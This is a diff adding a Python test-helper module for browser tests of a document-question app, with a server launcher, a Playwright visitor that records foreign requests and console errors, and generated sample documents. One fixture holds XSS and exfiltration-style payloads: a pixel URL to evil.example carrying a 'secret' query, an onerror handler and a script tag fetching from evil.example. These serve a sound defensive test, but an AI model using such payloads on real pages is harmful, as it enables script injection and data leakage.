@@ -1,0 +1,208 @@
+"""The server and the browser of the browser tests, and the documents they read."""
+
+from __future__ import annotations
+
+import os
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import time
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import httpx
+from playwright.sync_api import Page
+from reportlab.lib.pagesizes import A4
+from reportlab.pdfgen import canvas
+
+ROOT = Path(__file__).resolve().parents[2]
+START_SECONDS = 90
+WAIT_MS = 45_000
+
+HANDBOOK = """# 员工手册
+
+## 第一章 考勤
+
+员工每天上午九点上班，下午六点下班。迟到三次记警告一次。
+
+## 第二章 年假
+
+入职满一年的员工每年享有十五天带薪年假，未休完的年假可以结转到次年三月底。
+"""
+HOSTILE = """# Visitors' book
+
+![pixel](https://evil.example/pixel.png?q=secret) <img src="https://evil.example/img.png" onerror="alert(1)">
+
+<script>fetch('https://evil.example/script')</script> :material/delete: $x$ [click](https://evil.example/)
+
+The visitors' book lists 41 guests of the lighthouse in 1931.
+"""
+
+
+@dataclass
+class App:
+    """The server. ``start`` waits until it answers; the library outlives a restart."""
+
+    library: Path
+    port: int = 0
+    process: subprocess.Popen[bytes] | None = None
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.port}"
+
+    def start(self) -> None:
+        if not self.port:
+            with socket.socket() as probe:
+                probe.bind(("127.0.0.1", 0))
+                self.port = probe.getsockname()[1]
+        environ = {
+            name: value
+            for name, value in os.environ.items()
+            if not name.startswith(("DROPQA", "OPENAI", "RAG_"))
+        }
+        command = [
+            sys.executable,
+            "-m",
+            "engine.interfaces.cli",
+            "app",
+            "--no-browser",
+            "--port",
+            str(self.port),
+        ]
+        log = self.library.with_suffix(".log").open("ab")
+        self.process = subprocess.Popen(
+            [*command, "--library", str(self.library)], env=environ, cwd=ROOT, stdout=log, stderr=log
+        )
+        deadline = time.monotonic() + START_SECONDS
+        while time.monotonic() < deadline:
+            if self.process.poll() is not None:
+                break
+            try:
+                if httpx.get(f"{self.url}/api/health", timeout=5).status_code == 200:
+                    return
+            except httpx.HTTPError:
+                time.sleep(0.1)
+        raise AssertionError(f"the app did not start: {self.log()}")
+
+    def stop(self) -> None:
+        if self.process is None:
+            return
+        self.process.send_signal(signal.SIGINT)
+        try:
+            self.process.wait(20)
+        except subprocess.TimeoutExpired:
+            self.process.kill()
+            self.process.wait()
+        self.process = None
+
+    def restart(self) -> None:
+        self.stop()
+        self.start()
+
+    def log(self) -> str:
+        return self.library.with_suffix(".log").read_text(errors="replace")[-4000:]
+
+    def add(self, name: str, data: bytes) -> dict[str, Any]:
+        answer = httpx.put(f"{self.url}/api/documents", params={"name": name}, content=data, timeout=120)
+        result = answer.json()["documents"][0]
+        assert result["status"] != "failed", result
+        return result
+
+    def node(self, document: str, text: str) -> dict[str, Any]:
+        tree = httpx.get(f"{self.url}/api/tree", params={"document": document}, timeout=60).json()
+        return next(node for node in tree["nodes"] if text in node["title"] + node["text"])
+
+
+@dataclass
+class Visitor:
+    """A browser with its own cookies, and everything that went wrong in it."""
+
+    app: App
+    page: Page
+    problems: list[str] = field(default_factory=list)
+
+    def open(self, path: str) -> Page:
+        self.page.goto(self.app.url + path)
+        return self.page
+
+    def ask(self, question: str) -> None:
+        self.page.get_by_test_id("stChatInputTextArea").fill(question)
+        self.page.get_by_test_id("stChatInputTextArea").press("Enter")
+
+    def watch(self, page: Page) -> None:
+        page.set_default_timeout(WAIT_MS)
+        page.on("console", lambda message: self._console(message.type, message.text, message.location))
+        page.on("pageerror", lambda error: self.problems.append(f"page error: {error}"))
+        page.on("request", lambda request: self._request(request.url))
+
+    def _console(self, kind: str, text: str, location: Any) -> None:
+        # Streamlit looks for its server below the page's own address before it finds it at the root.
+        probe = "_stcore" in str(location.get("url", "") if isinstance(location, dict) else location)
+        hung_up = "WebSocket" in text or "ERR_CONNECTION" in text
+        if kind in ("error", "warning") and not probe and not hung_up:
+            self.problems.append(f"console {kind}: {text}")
+
+    def _request(self, url: str) -> None:
+        if urlsplit(url).hostname not in ("127.0.0.1", None):
+            self.problems.append(f"foreign request: {url}")
+
+
+def write_pdf(path: Path, pages: list[list[tuple[int, float, str]]]) -> bytes:
+    """Write a PDF of (size, y, text) lines a page and return its bytes."""
+    sheet = canvas.Canvas(str(path), pagesize=A4)
+    for lines in pages:
+        for size, y, text in lines:
+            sheet.setFont("Helvetica-Bold" if size > 12 else "Helvetica", size)
+            sheet.drawString(72, y, text)
+        sheet.showPage()
+    sheet.save()
+    return path.read_bytes()
+
+
+def lighthouse() -> bytes:
+    """Return a PDF of three pages; what is asked for stands at the foot of the last."""
+    with tempfile.TemporaryDirectory() as folder:
+        return write_pdf(
+            Path(folder) / "lighthouse.pdf",
+            [
+                [
+                    (22, 770, "The lighthouse of Vardo"),
+                    (16, 720, "Building"),
+                    (11, 690, "The tower was built of red granite between 1888 and 1896 by forty masons."),
+                    (11, 674, "The tower stands 32 metres above the sea."),
+                ],
+                [
+                    (16, 770, "The keepers"),
+                    (
+                        11,
+                        740,
+                        "Three families lived on the island and kept the lamp in turns of eight hours.",
+                    ),
+                ],
+                [
+                    (16, 770, "The lamp"),
+                    (11, 740, "The lens was ground in Paris and weighs more than a ton."),
+                    (
+                        11,
+                        90,
+                        "The lamp burned 11 barrels of oil every winter until it was electrified in 1953.",
+                    ),
+                ],
+            ],
+        )
+
+
+def almanac() -> str:
+    """Return a long text: many sections, so that it comes in parts."""
+    months = ("January", "February", "March", "April", "May", "June", "July", "August", "September")
+    parts = ["# Almanac"]
+    for year in range(1900, 1930):
+        entries = (f"In {month} {year} the tide gauge read {year % 97} inches at noon." for month in months)
+        parts.append(f"## The year {year}")
+        parts += [f"### {month} {year}\n\n{entry}" for month, entry in zip(months, entries, strict=True)]
+    return "\n\n".join(parts)
